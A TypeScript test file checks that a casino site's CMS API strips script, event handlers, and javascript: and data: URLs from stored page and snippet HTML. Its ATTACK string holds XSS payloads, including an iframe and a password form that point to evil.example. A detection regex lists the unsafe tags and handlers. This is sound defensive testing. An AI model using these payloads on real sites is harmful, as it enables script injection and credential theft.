import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { sql } from 'kysely';
import { z } from 'zod';
import { cmsPageSchema, cmsSnippetSchema } from '@casino/api/cms';
import { createAgent, createTestApp, type Agent, type TestApp } from '../../../test/harness.ts';
import { prepareCmsPage } from './cms-write.ts';
import { upsertSeededPages } from './cms-seed.repository.ts';

// The web app renders CMS HTML as is (spec 03 section 1.11: `content` and `blocks['content-main']` are HTML):
// apps/web/app/features/cms reads exactly these calls and puts `content` + `content-main` into the page with
// dangerouslySetInnerHTML. Whatever is stored, and however, every HTML field of every call the pages use must
// arrive sanitized: no script, no handlers, no javascript:/data: URLs.

let t: TestApp;
let agent: Agent;
beforeAll(async () => {
  t = await createTestApp();
  agent = createAgent(t.app);
});
afterAll(async () => t?.close());

const ATTACK = [
  '<p onmouseover="steal()">Read <a href="javascript:alert(1)">this</a></p>',
  '<script>document.cookie</script>',
  '<img src="x" onerror="alert(1)"><img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<iframe src="https://evil.example"></iframe>',
  '<svg><script>alert(1)</script></svg>',
  '<a href="JaVaScRiPt:alert(1)">x</a><a href="/payments" onclick="x()">ok</a>',
  '<style>body{display:none}</style><form action="https://evil.example"><input name="password"></form>',
  '<div data-widget="payments" data-evil="1" style="position:fixed">w</div>',
].join('');

/** Nothing in `html` can run script or load a foreign document. */
function expectInert(html: string) {
  expect(html).not.toMatch(
    /<\s*(script|iframe|style|form|input|object|embed|svg|meta|link|base)\b/i,
  );
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/javascript:|data:/i);
  expect(html).not.toMatch(/\sstyle\s*=/i);
}

const page = async (url: string) => {
  const res = await agent.get(url);
  expect(res.statusCode, `${url}: ${res.body}`).toBe(200);
  return cmsPageSchema.parse(res.json());
};

/** Writes HTML straight into the table, around the sanitizing write path (a hand-made SQL edit, an old row). */
async function writeRaw(slug: string, locale: string, html: string) {
  await sql`UPDATE cms_pages SET content = ${html}, blocks = jsonb_set(blocks::jsonb, '{content-main}', to_jsonb(${html}::text))::json, updated_at = now()
    WHERE slug = ${slug} AND locale = ${locale}`.execute(t.db);
}

describe('CMS HTML reaching the pages is sanitized (sanitize-html, cms-html.ts)', () => {
  test.each([
    ['a legal page by slug', 'privacy-policy', '/api/cms/pages/privacy-policy?l=en'],
    [
      'a per-licence version',
      'terms-and-conditions/EE',
      '/api/cms/pages/terms-and-conditions/EE?l=en',
    ],
    ['the support page', 'support', '/api/cms/pages/support?l=en'],
    ['the crypto page', 'benefits-of-crypto', '/api/cms/pages/benefits-of-crypto?l=en'],
    ['an SEO page by path (/pokies/all)', 'seo-pokies-all', '/api/cms/pages/pokies/all?l=en'],
    ['the main SEO page (/)', 'seo-main', '/api/cms/pages/?l=en'],
  ])('%s written around the write path is served inert', async (_name, slug, url) => {
    await writeRaw(slug, 'en', `<h2>Title</h2>${ATTACK}`);
    const served = await page(url);
    expectInert(served.content);
    expectInert(served.blocks['content-main']);
    // What is safe survives: the heading, the site link, the widget marker.
    expect(served.content).toContain('<h2>Title</h2>');
    expect(served.content).toContain('<a href="/payments">ok</a>');
    expect(served.content).toContain('<div data-widget="payments">w</div>');
  });

  test('a page written through the write path is stored clean, text fields without tags', async () => {
    const prepared = prepareCmsPage({
      slug: 'safety-check',
      path: '/safety-check',
      locale: 'en',
      title: 'Safe <b>title</b><script>x</script>',
      content: `<p>Body</p>${ATTACK}`,
      blocks: {
        title: '<i>SEO</i> title',
        description: '<img src=x onerror=alert(1)>Description',
        keywords: 'a, b',
        'content-main': ATTACK,
      },
      categories: ['page'],
    });
    await upsertSeededPages(t.db, [{ ...prepared, seed_hash: 'test' }]);
    const stored = await t.db
      .selectFrom('cms_pages')
      .selectAll()
      .where('slug', '=', 'safety-check')
      .executeTakeFirstOrThrow();
    expectInert(stored.content);
    expectInert(stored.blocks['content-main']);
    expect(stored.title).toBe('Safe title');
    expect(stored.blocks.title).toBe('SEO title');
    expect(stored.blocks.description).toBe('Description');
    const served = await page('/api/cms/pages/safety-check?l=en');
    expect(served.content).toBe(stored.content);
    expect(served.title).toBe('Safe title');
  });

  test('HTML snippets (footer contacts) are served inert; JSON snippets are left as data', async () => {
    await sql`UPDATE cms_snippets SET content = ${ATTACK}, updated_at = now() WHERE id = 'footer-contacts' AND locale = 'en'`.execute(
      t.db,
    );
    const snippets = z
      .array(cmsSnippetSchema)
      .parse((await agent.get('/api/cms/snippets?l=en')).json());
    const contacts = snippets.find((snippet) => snippet.id === 'footer-contacts');
    expect(contacts).toBeDefined();
    expectInert(contacts?.content ?? '');
    const social = snippets.find((snippet) => snippet.categories.includes('json'));
    expect(() => JSON.parse(social?.content ?? '')).not.toThrow();
  });

  test('the check itself fails on unsafe HTML', () => {
    expect(() => expectInert('<p onclick="x()">a</p>')).toThrow();
    expect(() => expectInert('<a href="javascript:x">a</a>')).toThrow();
    expect(() => expectInert('<script></script>')).toThrow();
  });
});
